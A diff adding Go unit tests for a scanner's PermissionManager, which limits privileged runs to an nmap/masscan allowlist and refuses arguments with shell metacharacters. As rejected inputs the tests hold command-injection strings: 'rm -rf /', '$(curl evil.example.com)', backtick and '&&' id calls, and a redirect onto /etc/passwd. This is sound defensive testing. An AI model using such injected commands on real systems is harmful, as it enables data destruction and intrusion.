@@ -0,0 +1,65 @@
+package scanner
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestValidateCommand(t *testing.T) {
+	pm := &PermissionManager{}
+	pm.SetAllowedTools([]string{"nmap", "/opt/masscan/bin/masscan"})
+
+	tests := []struct {
+		tool    string
+		args    []string
+		wantErr string // empty for allowed
+	}{
+		{"nmap", []string{"-sS", "-p", "1-1000", "example.com"}, ""},
+		{"/opt/masscan/bin/masscan", []string{"--rate", "1000", "10.0.0.0/24"}, ""},
+		{"bash", []string{"-c", "id"}, "not in the privileged tool allowlist"},
+		{"/tmp/nmap", []string{"example.com"}, "not in the privileged tool allowlist"},
+		{"./nmap", nil, "not in the privileged tool allowlist"},
+		{"masscan", nil, "not in the privileged tool allowlist"},
+		{"nmap", []string{"example.com;", "rm", "-rf", "/"}, "shell metacharacters"},
+		{"nmap", []string{"$(curl evil.example.com)"}, "shell metacharacters"},
+		{"nmap", []string{"`id`"}, "shell metacharacters"},
+		{"nmap", []string{"example.com", "&&", "id"}, "shell metacharacters"},
+		{"nmap", []string{"-oN", ">/etc/passwd"}, "shell metacharacters"},
+	}
+	for _, tt := range tests {
+		err := pm.ValidateCommand(tt.tool, tt.args)
+		if tt.wantErr == "" {
+			if err != nil {
+				t.Errorf("%s %q: %v", tt.tool, tt.args, err)
+			}
+			continue
+		}
+		if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
+			t.Errorf("%s %q: error = %v, want %q", tt.tool, tt.args, err, tt.wantErr)
+		}
+	}
+}
+
+func TestSetAllowedToolsDefaults(t *testing.T) {
+	pm := &PermissionManager{}
+	pm.SetAllowedTools(nil)
+	for _, tool := range DefaultPrivilegedTools {
+		if err := pm.ValidateCommand(tool, nil); err != nil {
+			t.Errorf("default tool %s refused: %v", tool, err)
+		}
+	}
+}
+
+func TestRunWithSudoRefusesBeforePrompting(t *testing.T) {
+	pm, path := testPermissionManager(t)
+	pm.SetAllowedTools(nil)
+	runner := &fakeRunner{}
+	pm.runner = runner
+
+	if _, err := pm.RunWithSudo("nmap", "SYN scan", "-sS", "example.com;id"); err == nil {
+		t.Fatal("RunWithSudo ran a command with shell metacharacters")
+	}
+	if lines := readAuditLog(t, path); len(lines) != 1 || !strings.Contains(lines[0], "decision=refused") {
+		t.Errorf("audit log = %q, want the refusal recorded", lines)
+	}
+}